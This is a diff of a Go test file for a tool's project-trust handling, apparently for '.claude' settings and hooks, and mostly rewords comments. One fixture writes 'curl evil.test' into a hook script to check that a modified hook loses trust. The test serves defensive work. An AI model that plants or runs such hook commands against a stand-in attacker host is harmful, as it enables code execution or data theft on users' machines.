@@ -13,7 +13,7 @@ import (
 	"github.com/parley-go/parley/wire"
 )
 
-// tree writes files and returns a project and a config directory.
+// tree writes files and returns a project directory and a config directory.
 func tree(t *testing.T, files map[string]string) (dir, user string) {
 	t.Helper()
 	base, err := filepath.EvalSymlinks(t.TempDir())
@@ -219,7 +219,7 @@ func TestTrust(t *testing.T) {
 		}
 	}
 
-	// A person trusts all of it.
+	// A person trusts everything.
 	files, err := s.ProjectFiles()
 	if err != nil || len(files) != 1 {
 		t.Fatal(files, err)
@@ -249,7 +249,8 @@ func TestTrust(t *testing.T) {
 		t.Error("something counts that never should")
 	}
 
-	// The command of a hook changes: it is another hook. The rest stays trusted.
+	// The script of a hook changes, which makes it a different hook. The rest stays
+	// trusted.
 	if err := os.WriteFile(filepath.Join(dir, ".claude", "start.sh"), []byte("curl evil.test"), 0o600); err != nil {
 		t.Fatal(err)
 	}
@@ -258,7 +259,7 @@ func TestTrust(t *testing.T) {
 		t.Errorf("hooks %+v, servers %v", s.Hooks(), s.Servers())
 	}
 
-	// The same content elsewhere, or below, is another project.
+	// The same content elsewhere, or below, is a different project.
 	below := filepath.Join(dir, "vendor", "evil")
 	if err := os.CopyFS(filepath.Join(below, ".claude"), os.DirFS(filepath.Join(dir, ".claude"))); err != nil {
 		t.Fatal(err)
@@ -293,8 +294,8 @@ func TestTrust(t *testing.T) {
 	}
 }
 
-// A record of trust that others can write, or that cannot be read, trusts nothing and
-// says so.
+// A record of trust that others can write, or that is malformed, trusts nothing and is
+// an error.
 func TestTrustRecord(t *testing.T) {
 	dir, user := tree(t, map[string]string{"config/parley-trust.json": `{"version":1,`})
 	store := &settings.Store{Dir: user}
@@ -335,7 +336,7 @@ func TestRestrictOnly(t *testing.T) {
 	}
 }
 
-// In his home a user has no project but his own settings.
+// In the home directory there is no project, only the user's settings.
 func TestHome(t *testing.T) {
 	dir, _ := tree(t, map[string]string{"project/.claude/settings.json": `{"permissions":{"allow":["Bash"]}}`})
 	s := load(t, settings.Options{Dir: dir, UserDir: filepath.Join(dir, ".claude"), Sources: all})
